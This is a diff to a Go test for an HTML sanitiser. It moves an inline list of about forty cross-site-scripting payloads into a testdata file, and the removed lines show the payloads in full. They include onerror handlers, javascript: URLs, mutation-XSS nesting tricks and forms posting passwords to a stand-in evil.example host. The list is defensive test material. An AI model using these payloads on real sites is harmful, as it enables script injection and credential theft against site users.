@@ -16,53 +16,23 @@ import (
 )
 
 // hostile pages call pwned() if any of their script runs in any reading of their markup.
-var hostile = []string{
-	`<script>pwned()</script>ok`,
-	`<img src=x onerror=pwned()>`,
-	`<img src="x" onerror="pwned()" style="color:red">`,
-	`<svg onload=pwned()>`,
-	`<svg><script>pwned()</script></svg>`,
-	`<svg><style><img src=x onerror=pwned()></style></svg>`,
-	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">`,
-	`<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=pwned() src=1>">`,
-	`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwned() src>">`,
-	`<noscript><p title="</noscript><img src=x onerror=pwned()>">`,
-	`<noembed><img title="</noembed><img src=x onerror=pwned()>"></noembed>`,
-	`<xmp><p title="</xmp><img src=x onerror=pwned()>"></xmp>`,
-	`<textarea><img title="</textarea><img src=x onerror=pwned()>"></textarea>`,
-	`<title><img title="</title><img src=x onerror=pwned()>"></title>`,
-	`<style><img title="</style><img src=x onerror=pwned()>"></style>`,
-	`<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`,
-	`<iframe src="javascript:parent.pwned()"></iframe>`,
-	`<object data="data:text/html,<script>parent.pwned()</script>"></object><embed src="javascript:pwned()">`,
-	`<a href="javascript:pwned()">a</a><a href="JaVa&#x09;script:pwned()">b</a><a href=" &#14; javascript:pwned()">c</a><a href="data:text/html,<script>pwned()</script>">d</a><a href="vbscript:pwned()">e</a>`,
-	`<p style="background:url(javascript:pwned());width:expression(pwned());behavior:url(x);-moz-binding:url(x)">x</p>`,
-	`<p style="color:red;/*</style><script>pwned()</script>*/">x</p>`,
-	`<table background="javascript:pwned()"><tr><td background="//evil.example/x">x</table>`,
-	`<base href="https://evil.example/"><a href="x">x</a><img src="y">`,
-	`<meta http-equiv="refresh" content="0;url=javascript:pwned()"><link rel=stylesheet href="//evil.example/x.css">`,
-	`<form action="https://evil.example"><input name=password><button onclick=pwned()>ok</button></form>`,
-	`<body onload=pwned()><input autofocus onfocus=pwned()><details open ontoggle=pwned()><summary>x</summary></details>`,
-	`<video><source onerror=pwned()></video><audio src=x onerror=pwned()></audio><marquee onstart=pwned()>x</marquee>`,
-	`<!--><img src=x onerror=pwned()>--><!--[if gte mso 9]><img src=x onerror=pwned()><![endif]-->`,
-	`<![CDATA[<img src=x onerror=pwned()>]]><?xml <img src=x onerror=pwned()>?>`,
-	`<div title="&quot;><img src=x onerror=pwned()>">x</div><a title='"><img src=x onerror=pwned()>' href="http://x.y/">x</a>`,
+var hostile = append(known(),
 	"<a href=\"http://x.y/`onmouseover=pwned()\">x</a><img alt=\"``onerror=pwned()\" src=\"cid:x\">",
-	`<img srcset="x 1x" src="data:image/svg+xml,<svg onload=pwned()>"><picture><source srcset=x></picture>`,
-	`<p id="x" name="y" class="z" data-controller="evil" contenteditable accesskey=x>x</p>`,
-	`<select><style></select><img src=x onerror=pwned()></style></select>`,
-	`<template><script>pwned()</script></template><p/onclick=pwned()>x</p>`,
-	`<<script>script>pwned()<</script>/script>`,
-	`<scr<script>ipt>pwned()</scr</script>ipt>`,
 	"<img src=\"x\x00\" onerror\x00=\"pwned()\"><\x00script>pwned()</script>",
-	`&lt;script&gt;pwned()&lt;/script&gt;`,
-	`<div style="position:fixed;inset:0;z-index:9;top:0;left:0;opacity:0">over everything</div>`,
-	`<div style="display:none"><img src=x onerror=pwned()></div>`,
-	`<plaintext><img src=x onerror=pwned()>`,
-	`<frameset onload=pwned()><frame src="javascript:parent.pwned()"></frameset>`,
-	`</div></body></html><script>pwned()</script>`,
-	`<table><td></div></table></div><img src=x onerror=pwned()>`,
-	`<a href="https://a.example" target="_self" rel="opener" onclick="pwned()" ping="//evil.example">x</a>`,
+)
+
+// known are the lines of testdata/hostile.txt.
+func known() (all []string) {
+	table, err := os.ReadFile("testdata/hostile.txt")
+	if err != nil {
+		panic(err)
+	}
+	for line := range strings.Lines(string(table)) {
+		if line = strings.TrimSpace(line); line != "" && !strings.HasPrefix(line, "# ") {
+			all = append(all, line)
+		}
+	}
+	return all
 }
 
 // checkHarmless reads sanitised HTML as a browser would and names whatever should not be there.
